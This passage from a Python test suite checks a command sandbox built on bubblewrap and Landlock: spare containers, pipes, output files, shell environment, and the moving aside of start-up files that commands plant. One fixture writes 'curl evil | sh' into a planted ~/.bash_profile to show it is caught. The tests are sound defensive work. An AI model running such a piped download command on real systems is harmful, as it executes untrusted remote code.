"""The edges of running a command and of its OS container (app/core/execution, and the session shell
of app/core/commands/session_shell.py): what keeps the protected set read-only, and a command's
processes contained and ended, when something around it goes wrong (a bwrap that cannot start, a
spare container whose init died, a watch that lost events, a folder that cannot be written), then
the smaller edges of output, environment and the session.

Most run the module's own functions in this process, with values or with real pipes, processes and
containers; a child process only where a whole process is what is tested (a forked server, a file
descriptor limit, a watcher stopped while events pile up, a user without root's override).
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import logging
import os
import resource
import shutil
import signal
import site
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import anyio
import pytest

from app.core.execution import (
    container,
    executor,
    landlock,
    live_binds,
    lone_files,
    output_decoding,
    pipes,
    process_marks,
    shell_environment,
    spare,
    start_files,
)
from app.core.execution.executor import CommandSpec, run_command
from app.core.execution.output_files import OutputSpool, outputs_size
from app.core.execution.shell_session import SessionBusy, ShellSession
from app.core.journal.store import Journal, Status
from app.core.messages import CANCEL_REASON
from app.core.paths import AppPaths
from tests.stdio_client import running_with
from tests.test_sessions import call

LINUX = sys.platform.startswith("linux")
BWRAP = LINUX and shutil.which("bwrap") is not None
SCOPED = LINUX and landlock.plan(sys.platform, landlock.kernel_abi(), landlock.find_perl()) == landlock.SCOPED
NEEDS_BWRAP = pytest.mark.skipif(not BWRAP, reason="bwrap (Linux)")
NEEDS_SPARES = pytest.mark.skipif(not (BWRAP and SCOPED), reason="spares need bwrap, Landlock scopes and perl")
REPO = Path(container.__file__).resolve().parents[3]
PY = sys.executable
BASH = shutil.which("bash") or "/bin/bash"
WAIT_S = 15.0


@pytest.fixture
def user_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """HOME for this process and its commands (the protected set is worked out from it), with the
    files a user has: never the machine's own home."""
    folder = tmp_path / "user"
    (folder / ".config").mkdir(parents=True)
    (folder / ".bashrc").write_text("alias ll='ls -l'\n")
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.setattr(site, "USER_BASE", None)  # worked out again from HOME when next asked
    return folder


def child(code: str, *args: str, env: dict[str, str] | None = None, timeout: float = WAIT_S, prefix: tuple = ()):
    """Python running `code` in a process of its own, from the repository (it imports `app`)."""
    return subprocess.run(
        [*prefix, PY, "-c", code, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        cwd=REPO,
        env=env,
    )


async def eventually(check: Any, seconds: float = WAIT_S) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if check():
            return True
        await anyio.sleep(0.02)
    return bool(check())


def moved_copies(path: Path) -> list[Path]:
    return sorted(path.parent.glob(path.name + start_files.MOVED_MARK + "*"))


# -- container.py: the protected set, the bwrap line, the probe ----------------------------------


def test_a_protected_root_folder_has_no_ancestor_to_bind_and_is_bound_read_only_alone() -> None:
    assert container.mount_args(container.ProtectedSet(("/",)), lambda _path: True) == ["--ro-bind", "/", "/"]


def test_systemds_socket_folder_is_hidden_even_where_there_is_no_session_bus() -> None:
    present = {"/run/user/1000", "/run/user/1000/systemd"}
    args = container.hidden_args({"XDG_RUNTIME_DIR": "/run/user/1000"}, present.__contains__)
    assert args == ["--tmpfs", "/run/user/1000/systemd"]


def test_the_person_is_told_nothing_for_their_own_choices_and_to_read_the_log_when_bwrap_failed() -> None:
    for chosen in (container.UNSUPPORTED, container.OFF, container.PRIVILEGED):
        assert container.person_message(chosen) is None, chosen
    failed = container.person_message(container.FAILED)
    assert failed is not None and "bubblewrap could not start" in failed and "log" in failed
    scoping = container.person_message(container.ON, landlock.FAILED)
    assert scoping == "Commands can still talk to other programs on this computer, this app included. The log says why."


def test_a_protected_folder_that_cannot_be_made_is_left_out_and_the_others_are_kept(tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("")
    blocked, fine = tmp_path / "a-file" / "autostart", tmp_path / "fine"
    prepared = container.prepare(container.ProtectedSet((str(blocked), str(fine))))
    assert prepared.folders == (str(fine),)
    assert fine.is_dir() and not blocked.exists()


@pytest.mark.skipif(not LINUX, reason="bwrap (Linux)")
def test_a_bwrap_that_cannot_be_executed_fails_the_probe_in_the_os_words_and_the_log_says_so(tmp_path: Path) -> None:
    not_a_program = tmp_path / "bwrap"
    not_a_program.write_text("")  # not executable: the OS refuses it (not "not found")
    state, detail = container.probe(str(not_a_program), [], [])
    assert state == container.FAILED and "Permission denied" in detail
    assert container.log_message(state, detail) == f"bwrap failed: {detail}"


@pytest.mark.skipif(not LINUX, reason="/proc (Linux)")
def test_the_walk_over_a_containers_processes_looks_at_each_once_and_skips_one_gone_meanwhile(tmp_path: Path) -> None:
    """A process listed under two parents (reparented while the walk reads /proc) is looked at
    once; one whose folder is gone is skipped; a third that holds the command's pipe is found."""
    starter = subprocess.Popen(["bash", "-c", "sleep 30; :"])  # `bwrap`, whose one child is the init
    try:
        assert wait_until(lambda: container.init_pid(starter.pid) is not None)
        leader = container.init_pid(starter.pid)
        proc = tmp_path / "proc"

        def process(pid: int, children: list[int], fds: dict[str, str] | None) -> None:
            task = proc / str(pid) / "task" / str(pid)
            task.mkdir(parents=True)
            (task / "children").write_text(" ".join(map(str, children)))
            if fds is not None:
                (proc / str(pid) / "fd").mkdir()
                for fd, target in fds.items():
                    (proc / str(pid) / "fd" / fd).symlink_to(target)

        process(starter.pid, [leader], {"1": "pipe:[71]", "2": "pipe:[72]"})  # its init, read from `proc` too
        process(leader, [101, 102], {})
        process(101, [102], {"0": "/dev/null"})
        process(102, [101], None)  # gone (no fd folder), and 101 listed under it as well
        assert container.output_held(starter.pid, str(proc)) is False
        process(103, [], {"1": "pipe:[72]"})
        (proc / "102" / "task" / "102" / "children").write_text("101 103")
        assert container.output_held(starter.pid, str(proc)) is True
    finally:
        starter.kill()
        starter.wait()


def wait_until(check: Any, seconds: float = WAIT_S) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(0.02)
    return bool(check())


FORKED = """
import os, sys
from app.core.execution import container
parent = os.fstat(container.lifeline()).st_ino
pid = os.fork()
if pid == 0:
    mine = os.fstat(container.lifeline()).st_ino
    print("child", mine != parent, flush=True)
    sys.exit(0)
os.waitpid(pid, 0)
print("parent", os.fstat(container.lifeline()).st_ino == parent, flush=True)
"""


@pytest.mark.skipif(not hasattr(os, "register_at_fork"), reason="POSIX fork")
def test_a_forked_process_watches_a_lifeline_of_its_own_not_its_parents() -> None:
    """A forked child holds its parent's write end too: its containers would never see it gone."""
    done = child(FORKED)
    assert done.returncode == 0, done.stderr
    assert sorted(done.stdout.split("\n")[:2]) == ["child True", "parent True"]


# -- live_binds.py: binding a member read-only in a live container ------------------------------------


@pytest.mark.skipif(not LINUX, reason="namespaces (Linux)")
def test_binding_in_a_container_that_is_gone_says_why(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    member = tmp_path / "settings"
    member.mkdir()
    gone = subprocess.Popen(["true"])
    gone.wait()
    with caplog.at_level(logging.WARNING, logger=live_binds.__name__):
        problem = live_binds.protect(gone.pid, [str(member)])
    assert problem is not None and "No such file or directory" in problem and f"/proc/{gone.pid}/ns" in problem
    assert f"binding ['{member}'] read-only in container {gone.pid} failed" in caplog.text


def test_binding_whose_helper_cannot_start_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The interpreter the helper runs with went away (a venv replaced under a running server)."""
    member = tmp_path / "settings"
    member.mkdir()
    monkeypatch.setattr(sys, "executable", str(tmp_path / "gone" / "python"))
    problem = live_binds.protect(os.getpid(), [str(member)])
    assert problem is not None and "No such file or directory" in problem and "gone/python" in problem


# -- landlock.py ------------------------------------------------------------------------------------


@NEEDS_BWRAP
def test_perl_is_taken_from_path_only_where_the_system_folders_have_none_and_no_command_can_change_it(
    tmp_path: Path,
) -> None:
    own = tmp_path / "bin"
    own.mkdir()
    (own / "perl").write_text("#!/bin/sh\n")
    (own / "perl").chmod(0o755)
    # Each system Perl there is hidden (one missing cannot be: its mount point cannot be made).
    hide = [arg for folder in ("/usr/bin", "/bin", "/usr/local/bin") if os.path.exists(f"{folder}/perl")
            for arg in ("--ro-bind", "/dev/null", f"{folder}/perl")]  # fmt: skip
    code = "import sys; from app.core.execution import landlock; print(landlock.find_perl({'PATH': sys.argv[1]}))"
    # The whole file system read-only: neither `own` nor a parent can be changed, even by root.
    fixed = ("bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", *hide, "--")
    done = child(code, str(own), prefix=fixed)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == str(own / "perl")
    changeable = ("bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--bind", str(own), str(own))
    planted = child(code, str(own), prefix=(*changeable, *hide, "--"))
    assert planted.stdout.strip() == "None", "a Perl a command could have put there is not our init"
    gone = child(code, str(tmp_path), prefix=fixed)
    assert gone.stdout.strip() == "None", "no Perl at all: the bash init runs, unscoped"


# -- process_marks.py, output_decoding.py ----------------------------------------------------------


def test_ending_marked_processes_never_ends_this_process_even_where_its_parents_cannot_be_read(tmp_path: Path) -> None:
    gone = subprocess.Popen(["true"])
    gone.wait()
    assert process_marks.kill([os.getpid(), gone.pid], tmp_path) == [], "itself spared, the gone one skipped"


def test_four_stray_continuation_bytes_are_not_held_back_for_a_character_that_never_comes() -> None:
    decoder = output_decoding.StreamDecoder()
    assert decoder.decode(b"\x80\x80\x80\x80") == "\ufffd" * 4
    assert decoder.decode(b"ok", final=True) == "ok"


# -- output_files.py --------------------------------------------------------------------------------


def test_an_output_file_that_was_needed_is_removed_when_nothing_was_left_out(tmp_path: Path) -> None:
    spool = OutputSpool(tmp_path / "outputs", "call", 1)
    spool.flush()  # nothing written to a file yet: nothing to flush, nothing made
    assert not (tmp_path / "outputs").exists()
    spool.write(0, b"x" * (2 * 1024 * 1024))
    assert spool.path is not None and spool.path.exists(), "past the memory spool: in its file"
    made = spool.path
    spool.close(keep=False)
    assert not made.exists() and spool.path is None


def test_an_outputs_folder_replaced_by_a_link_gets_no_file_and_the_call_says_why(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "outputs").symlink_to(elsewhere)
    spool = OutputSpool(tmp_path / "outputs", "call", 2, cap_bytes=10)
    spool.write(0, b"0123456789-dropped")
    assert spool.open() is None
    assert (
        spool.problem
        == f"could not create a file in {tmp_path / 'outputs'}: {tmp_path / 'outputs'} is not a folder of this user"
    )
    spool.close(keep=True, tails=[("stdout", b"dropped"), ("stderr", b"")])  # no file to note the cut in
    assert list(elsewhere.iterdir()) == [] and spool.path is None


def test_an_output_file_that_hits_the_file_size_limit_keeps_what_was_written_and_says_so(tmp_path: Path) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    spool = OutputSpool(tmp_path / "outputs", "call", 1)
    spool.live = True
    resource.setrlimit(resource.RLIMIT_FSIZE, (1536 * 1024, hard))  # as a full disk would
    try:
        spool.write(0, b"a" * (1024 * 1024 + 1))  # past the memory spool: into the file
        spool.write(0, b"b" * (1024 * 1024))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert spool.problem == "the output file could not be completed: File too large"
    assert spool.path is not None and spool.path.stat().st_size >= 1024 * 1024 + 1
    spool.close(keep=True)


def test_the_kept_output_files_are_counted_and_nothing_else_in_their_folder(tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(b"12345")
    (tmp_path / "b.log").write_bytes(b"678")
    (tmp_path / "notes.txt").write_bytes(b"not an output")
    (tmp_path / "link.log").symlink_to(tmp_path / "a.log")
    (tmp_path / "folder.log").mkdir()
    assert outputs_size(tmp_path) == (2, 8)


# -- shell_environment.py ---------------------------------------------------------------------------


def test_without_shell_set_the_login_shell_comes_from_the_account_database() -> None:
    import pwd

    assert shell_environment.login_shell({"SHELL": "relative/sh"}) == (pwd.getpwuid(os.getuid()).pw_shell or None)


@pytest.mark.skipif(not LINUX or shutil.which("unshare") is None, reason="user namespaces (Linux)")
def test_a_user_without_an_account_entry_and_without_shell_has_no_login_shell() -> None:
    code = "from app.core.execution import shell_environment as s; print(s.login_shell({}))"
    done = child(code, prefix=("unshare", "--user", "--map-user=54321", "--map-group=54321"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "None"


def test_a_login_shell_whose_escaped_child_holds_its_output_gives_up_without_hanging(tmp_path: Path) -> None:
    marker = f"3{os.getpid() % 1000}.75"
    shell = tmp_path / "slow-shell"
    shell.write_text(f"#!/bin/sh\nsetsid sleep {marker} &\nsleep {marker}\n")
    shell.chmod(0o755)
    started = time.monotonic()
    try:
        assert shell_environment.read_login_environment(str(shell), timeout_s=0.5) is None
        took = time.monotonic() - started
        assert took < 0.5 + 2 * shell_environment.PROBE_KILL_GRACE_S + 2.0, took
    finally:
        for pid in running_with(f"sleep {marker}"):  # the escaped one, found by its own duration
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


def test_a_library_path_partly_in_the_bundle_keeps_the_users_own_entries() -> None:
    env = shell_environment.strip_own_variables({"LD_LIBRARY_PATH": "/b/lib::/usr/local/lib"}, "/b")
    assert env == {"LD_LIBRARY_PATH": "/usr/local/lib"}, "no empty entry either (the current folder)"


# -- spare.py, pipes.py: a container started ahead, its pipes --------------------------------------------


def test_a_spares_output_pipe_waits_again_when_another_reader_took_its_data_and_is_closed_once() -> None:
    async def main() -> None:
        read_end, write_end = os.pipe()
        first, second = pipes.PipeStream(read_end), pipes.PipeStream(os.dup(read_end))
        got: list[bytes] = []

        async def read(stream: pipes.PipeStream) -> None:
            got.append(await stream.receive())

        async with anyio.create_task_group() as group:
            group.start_soon(read, first)
            group.start_soon(read, second)
            await anyio.sleep(0.1)  # both wait for the pipe
            os.write(write_end, b"one")
            await anyio.sleep(0.1)  # both were woken; one read it, the other found nothing and waits again
            assert got == [b"one"]
            os.write(write_end, b"two")
        assert got == [b"one", b"two"]
        os.close(write_end)
        await first.aclose()
        await first.aclose()  # a second close closes nothing (its number may be another's by now)
        with pytest.raises(anyio.ClosedResourceError):
            await first.receive()
        assert first.rest() == b""
        with pytest.raises(anyio.EndOfStream):
            await second.receive()
        await second.aclose()

    anyio.run(main)


@NEEDS_SPARES
def test_a_command_whose_environment_cannot_pass_to_a_spare_ends_it_unused(tmp_path: Path) -> None:
    async def main() -> None:
        found = container.linux_container([str(tmp_path / "data")])
        waiting = await spare.start(found)
        assert await waiting.hand(["true"], "/", {"A=B": "1"}) is False
        assert waiting.process.returncode == 0, "its init read the end of its command pipe and ran nothing"

    anyio.run(main)


# A failure `attempt` must raise, in a process of its own (another thread of the test's worker may
# open a pipe meanwhile): it prints the pipes it held before and after.
PIPES_AROUND = """
import anyio, dataclasses, json, os, sys
from app.core.execution import container, spare
from app.core.execution.executor import CommandSpec, run_command

def pipes():
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:"):
            found.add(f"{fd} {target}")
    return sorted(found)

async def main():
    folder = sys.argv[1]
    found = container.linux_container([os.path.join(folder, "data")])
    before = pipes()
    try:
        await ATTEMPT
    except OSError as problem:
        print(json.dumps({"before": before, "after": pipes(), "raised": type(problem).__name__}))

anyio.run(main)
"""


def pipes_around(attempt: str, folder: Path) -> dict[str, Any]:
    done = child(PIPES_AROUND.replace("ATTEMPT", attempt), str(folder))
    assert done.returncode == 0 and done.stdout, done.stderr
    return json.loads(done.stdout)


@NEEDS_SPARES
def test_a_spare_whose_bwrap_went_missing_leaves_no_pipe_open(tmp_path: Path) -> None:
    seen = pipes_around('spare.start(dataclasses.replace(found, bwrap=os.path.join(folder, "no-bwrap")))', tmp_path)
    assert seen["raised"] == "FileNotFoundError"
    assert seen["after"] == seen["before"]


def spare_taken_next() -> bool:
    """Whether this thread's next command will be handed to a spare: its process shows in /proc a
    moment before the spare is in the thread's slot, and a command meanwhile starts cold."""
    return spare._slot().spare is not None


def spares_here(folder: Path) -> list[int]:
    """The waiting spares this process started for a container protecting `folder` (bwrap processes
    whose init waits for orders): not those an earlier test of this worker left on another thread."""
    found = []
    for task in os.listdir(f"/proc/{os.getpid()}/task"):
        for pid in process_marks.children(os.getpid(), task=int(task)):
            with contextlib.suppress(OSError):
                argv = Path(f"/proc/{pid}/cmdline").read_bytes()
                if spare.ORDERS_ARG.encode() in argv and str(folder).encode() in argv:
                    found.append(pid)
    return found


@NEEDS_SPARES
def test_a_spare_whose_init_died_while_it_waited_is_not_used_and_the_command_runs_in_a_container_of_its_own(
    tmp_path: Path,
) -> None:
    """Its bwrap stopped (so it still looks alive) and its init killed: the command is not lost in a
    pipe nobody reads, it starts cold; the dead spare is killed, not waited for."""

    async def main() -> None:
        found = container.linux_container([str(tmp_path / "data")])
        spec = CommandSpec("echo $$", str(tmp_path), dict(os.environ), 10, BASH, container=found, spare=True)
        first = await run_command(spec)
        assert first.exit_code == 0
        assert await eventually(lambda: len(spares_here(tmp_path)) == 1 and spare_taken_next()), "a spare waits"
        [waiting] = spares_here(tmp_path)
        await eventually(lambda: container.init_pid(waiting) is not None)  # bwrap shows a moment before its init
        init = container.init_pid(waiting)
        assert init is not None
        os.kill(waiting, signal.SIGSTOP)
        os.kill(init, signal.SIGKILL)
        assert await eventually(lambda: zombie(init)), "the init is gone (its stopped bwrap cannot reap it)"
        began = time.monotonic()
        second = await run_command(spec)
        assert second.exit_code == 0 and second.contained
        assert second.to_model()["stdout"] == "2\n", "the command's bash in a fresh container (the init is 1)"
        assert time.monotonic() - began < 1.0 + 5.0
        assert await eventually(lambda: not Path(f"/proc/{waiting}").exists() or zombie(waiting))

    anyio.run(main)


def zombie(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except OSError:
        return True


@NEEDS_SPARES
def test_a_bwrap_removed_after_its_spare_started_runs_the_next_command_there_and_the_one_after_says_it_is_missing(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    link = tmp_path / "bwrap"
    link.symlink_to(shutil.which("bwrap") or "bwrap")

    async def main() -> None:
        found = dataclasses.replace(container.linux_container([str(tmp_path / "data")]), bwrap=str(link))
        spec = CommandSpec("echo ran", str(tmp_path), dict(os.environ), 10, BASH, container=found, spare=True)
        assert (await run_command(spec)).exit_code == 0
        assert await eventually(lambda: len(spares_here(tmp_path)) == 1 and spare_taken_next())
        link.unlink()
        with caplog.at_level(logging.DEBUG, logger=spare.__name__):
            warm = await run_command(spec)
            assert warm.to_model()["stdout"] == "ran\n", "the spare was started before bwrap went"
            assert await eventually(lambda: "no spare container" in caplog.text)
        # The spare the warm command ran in ends a moment after it (its bwrap is not waited for).
        assert await eventually(lambda: spares_here(tmp_path) == []), "no spare is started without bwrap"
        with pytest.raises(FileNotFoundError):
            await run_command(spec)

    anyio.run(main)


@NEEDS_SPARES
def test_a_spare_of_another_container_value_is_ended_when_the_next_one_is_started(tmp_path: Path) -> None:
    """Two servers' commands on one thread of the tray, each with its own protected set."""

    async def main() -> None:
        one = container.linux_container([str(tmp_path / "one")])
        other = container.linux_container([str(tmp_path / "other")])
        spare.refill_soon(one)
        assert await eventually(lambda: spare._slot().spare is not None)
        first = spare._slot().spare
        assert first is not None and first.container == one
        spare.refill_soon(other)
        assert await eventually(lambda: spare._slot().spare not in (None, first))
        assert await eventually(lambda: first.process.returncode is not None), "the older spare ended unused"
        taken = await spare.take(other)
        assert taken is not None and taken.container == other
        await taken.end()

    anyio.run(main)


# -- executor.py ------------------------------------------------------------------------------------


def test_ending_a_command_whose_group_is_already_gone_returns_at_once() -> None:
    async def main() -> None:
        process = await anyio.open_process(["true"], start_new_session=True)
        await process.wait()
        began = time.monotonic()
        await executor.end_tree(process)
        assert time.monotonic() - began < executor.STOP_GRACE_S
        await process.aclose()

    anyio.run(main)


def test_a_containers_status_is_read_by_whoever_gets_it_and_a_line_that_is_no_number_gives_no_exit_code() -> None:
    async def main() -> None:
        read_end, write_end = os.pipe()
        other = os.dup(read_end)
        for fd in (read_end, other):
            os.set_blocking(fd, False)
        codes: list[int | None] = []

        async def status(fd: int) -> None:
            codes.append(await executor.read_status(fd))

        async with anyio.create_task_group() as group:
            group.start_soon(status, read_end)
            group.start_soon(status, other)
            await anyio.sleep(0.1)
            os.write(write_end, b"3\n")
            await anyio.sleep(0.1)
            assert codes == [3], "one got it; the other waits on"
            os.close(write_end)
        assert codes == [3, None], "end of file without a status"
        for fd in (read_end, other):
            os.close(fd)
        garbled_read, garbled_write = os.pipe()
        os.set_blocking(garbled_read, False)
        os.write(garbled_write, b"ended\n")
        assert await executor.read_status(garbled_read) is None
        os.close(garbled_read)
        os.close(garbled_write)

    anyio.run(main)


@NEEDS_BWRAP
def test_a_contained_command_whose_folder_is_missing_raises_and_leaves_no_status_pipe_open(tmp_path: Path) -> None:
    missing = 'os.path.join(folder, "missing")'
    seen = pipes_around(
        f"run_command(CommandSpec('true', {missing}, dict(os.environ), 10, {BASH!r}, container=found))", tmp_path
    )
    assert seen["raised"], "an OSError, raised"
    assert seen["after"] == seen["before"]


@NEEDS_BWRAP
def test_a_contained_command_whose_bwrap_is_killed_reports_the_signal_and_no_exit_code(tmp_path: Path) -> None:
    """bwrap killed from outside (the OOM killer, the user): the init never writes a status."""
    mark = f"edges-{os.getpid()}-{time.monotonic_ns()}"

    async def main() -> None:
        found = container.linux_container([str(tmp_path / "data")])
        spec = CommandSpec(
            "echo started; sleep 30", str(tmp_path), dict(os.environ), 20, BASH, container=found, mark=mark
        )

        async def kill_bwrap() -> None:
            def bwrap() -> int | None:
                for pid, found_mark in process_marks.marked_processes().items():
                    with contextlib.suppress(OSError):
                        if found_mark == mark and Path(f"/proc/{pid}/comm").read_text().strip() == "bwrap":
                            return pid
                return None

            assert await eventually(lambda: bwrap() is not None and len(process_marks.marked_processes()) > 2)
            await anyio.sleep(0.2)
            os.kill(bwrap() or 0, signal.SIGKILL)

        async with anyio.create_task_group() as group:
            group.start_soon(kill_bwrap)
            result = await run_command(spec)
        assert result.exit_code is None and result.signal_name == "SIGKILL" and not result.timed_out
        assert result.to_model()["stdout"] == "started\n"

    anyio.run(main)


# -- lone_files.py: the watch over lone members ----------------------------------------------------

NO_INOTIFY = """
import logging, os, resource, sys
import ctypes
from app.core.execution import lone_files, start_files
ctypes.CDLL(None)
free = os.dup(0); os.close(free)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (free, hard))  # no descriptor left for inotify
try:
    lone_files.watch([sys.argv[1]])
finally:
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
print("followed" if start_files._wake is not None else "not followed")
lone_files.watch([sys.argv[1]])  # the next container's watch, with descriptors to spare again
print("followed" if start_files._wake is not None else "not followed")
"""


@pytest.mark.skipif(not LINUX, reason="inotify (Linux)")
def test_a_process_that_cannot_watch_lone_files_says_so_in_its_log_and_tries_again_next_time(tmp_path: Path) -> None:
    done = child(NO_INOTIFY, str(tmp_path / ".bash_profile"))
    assert done.returncode == 0, done.stderr
    assert "cannot watch lone protected files: [Errno 24] inotify_init1 failed" in done.stderr
    assert done.stdout.split() == ["not", "followed", "followed"], "the path was not taken as watched"


@pytest.mark.skipif(not LINUX, reason="inotify (Linux)")
def test_a_lone_member_whose_folder_cannot_be_watched_is_logged(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    missing = tmp_path / "no-such-folder" / ".claude.json"
    with caplog.at_level(logging.WARNING, logger=lone_files.__name__):
        lone_files.watch([str(missing)])
    assert f"cannot watch {missing}: its folder cannot be watched" in caplog.text


GUARDING = """
import os, subprocess, sys
from app.core.execution import container
found = container.container_for((sys.argv[1],))
assert found.on, found.detail
status_read, status_write = os.pipe()
line = found.wrap(["sleep", "60"], status_write)
command = subprocess.Popen(line, pass_fds=container.inherited(status_write, status_read), start_new_session=True)
os.close(status_write)
print("running", flush=True)
sys.stdin.readline()
command.kill()
command.wait()
"""


@NEEDS_BWRAP
def test_a_start_up_file_made_while_the_watch_lost_events_is_still_moved_aside(tmp_path: Path) -> None:
    """The watching process is stopped for a moment while a command floods the home folder: the
    kernel drops the events past its queue (the new `~/.bash_profile`'s too) and says it did."""
    home = tmp_path / "user"
    (home / ".config").mkdir(parents=True)
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    env = {**os.environ, "HOME": str(home)}
    watcher = subprocess.Popen(
        [PY, "-c", GUARDING, str(tmp_path / "data")],
        cwd=REPO, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert watcher.stdout is not None and watcher.stdout.readline() == "running\n"
        time.sleep(0.5)  # its watching thread polls the container's end from now on
        watcher.send_signal(signal.SIGSTOP)
        try:
            flood = home / "flood"
            flood.mkdir()
            queued = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
            for i in range(queued + 500):
                os.close(os.open(home / f"f{i}", os.O_CREAT | os.O_WRONLY, 0o600))
            (home / ".bash_profile").write_text("curl evil | sh\n")
        finally:
            watcher.send_signal(signal.SIGCONT)
        assert wait_until(lambda: moved_copies(home / ".bash_profile") != [], 30.0), "moved aside"
        [moved] = moved_copies(home / ".bash_profile")
        assert moved.read_text() == "curl evil | sh\n" and not (home / ".bash_profile").exists()
        assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n", "the user's file stays"
    finally:
        if watcher.poll() is None and watcher.stdin is not None:
            watcher.stdin.write("\n")
            watcher.stdin.flush()
        watcher.wait(WAIT_S)


# -- start_files.py: containers followed, files moved aside ----------------------------------------


@pytest.mark.skipif(not LINUX, reason="inotify (Linux)")
def test_a_container_that_guards_no_lone_member_or_whose_status_pipe_is_closed_is_not_followed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "h").mkdir()
    lone_files.watch([str(tmp_path / "h" / ".profile")])  # containers are followed in this process
    before = start_files.live()
    read_end, write_end = os.pipe()
    try:
        start_files.note_guards(write_end, ["--ro-bind", "/p", "/p"])
        start_files.register(write_end, read_end)
        assert start_files.live() == before, "a line with nothing to guard"
        closed = 1_000_000  # no descriptor has that number
        start_files.note_guards(closed, [start_files.GUARD_FLAG, "/h/.profile", "/h/.profile"])
        with caplog.at_level(logging.WARNING, logger=start_files.__name__):
            start_files.register(closed, read_end)
        assert "cannot follow a container's end: its status pipe is closed" in caplog.text
        assert start_files.live() == before
        start_files.ended([read_end])  # an end reported for a pipe not followed here closes nothing
        os.fstat(read_end)
    finally:
        os.close(read_end)
        os.close(write_end)


def test_a_containers_init_is_not_found_where_this_processs_threads_cannot_be_read(tmp_path: Path) -> None:
    entry = start_files.Guarded(status_fd=5, pipe=1, guards=("/h/.profile",), existed=set())
    assert start_files._init_of(entry, str(tmp_path)) is None


def test_a_new_file_already_gone_when_it_is_judged_is_left_alone(tmp_path: Path) -> None:
    assert start_files.appeared(str(tmp_path / ".bash_profile")) is None
    assert list(tmp_path.iterdir()) == []


def test_the_user_is_told_once_a_minute_per_file_and_a_notifier_that_fails_stops_no_move(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    told: list[str] = []

    def notifier(title: str, message: str) -> None:  # the tray's, whose desktop went away
        told.append(message)
        raise RuntimeError("no notification service")

    monkeypatch.setattr(start_files, "tell_user", notifier)
    target = tmp_path / ".bash_profile"
    target.write_text("one\n")
    with caplog.at_level(logging.WARNING, logger=start_files.__name__):
        first = start_files.move_aside(str(target), now=0.0)
        target.write_text("two\n")
        second = start_files.move_aside(str(target), now=0.0)
    assert first and second and first != second
    assert [Path(first).read_text(), Path(second).read_text()] == ["one\n", "two\n"]
    assert len(told) == 1 and str(target) in told[0], "a command that loops does not flood the desktop"
    assert "telling the user failed" in caplog.text


MOVE_ASIDE = "import sys; from app.core.execution import start_files; print(start_files.move_aside(sys.argv[1]))"


@pytest.mark.skipif(not LINUX or shutil.which("unshare") is None, reason="user namespaces (Linux)")
def test_a_file_is_moved_aside_from_the_users_folder_without_its_write_right_and_the_folder_is_left_as_found(
    tmp_path: Path,
) -> None:
    """In a user namespace this process's user owns its files without root's override: as a user
    whose command took the write right off their own home folder after making the file."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bash_profile").write_text("evil\n")
    folder.chmod(0o555)
    try:
        done = child(MOVE_ASIDE, str(folder / ".bash_profile"), prefix=("unshare", "--user"))
    finally:
        mode = stat.S_IMODE(folder.stat().st_mode)
        folder.chmod(0o755)
    assert done.returncode == 0, done.stderr
    moved = Path(done.stdout.strip())
    assert moved.parent == folder and moved.read_text() == "evil\n" and not (folder / ".bash_profile").exists()
    assert mode == 0o555, "left as found"


@pytest.mark.skipif(not LINUX or shutil.which("unshare") is None, reason="user namespaces (Linux)")
def test_a_file_in_someone_elses_folder_that_cannot_be_moved_aside_stays_and_the_log_says_so(tmp_path: Path) -> None:
    folder = tmp_path / "theirs"
    folder.mkdir()
    (folder / ".profile").write_text("theirs\n")
    os.chown(folder, 65534, 65534)
    folder.chmod(0o555)
    try:
        done = child(MOVE_ASIDE, str(folder / ".profile"), prefix=("unshare", "--user"))
    finally:
        folder.chmod(0o755)
        os.chown(folder, os.getuid(), os.getgid())
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "None"
    assert f"a command created {folder / '.profile'}; moving it aside failed" in done.stderr
    assert (folder / ".profile").read_text() == "theirs\n" and moved_copies(folder / ".profile") == []


# -- shell_session.py: the long-lived shell, uncontained and contained ------------------------------


def test_an_uncontained_session_runs_reads_and_is_interrupted_and_refuses_what_cannot_be_done(tmp_path: Path) -> None:
    async def main() -> None:
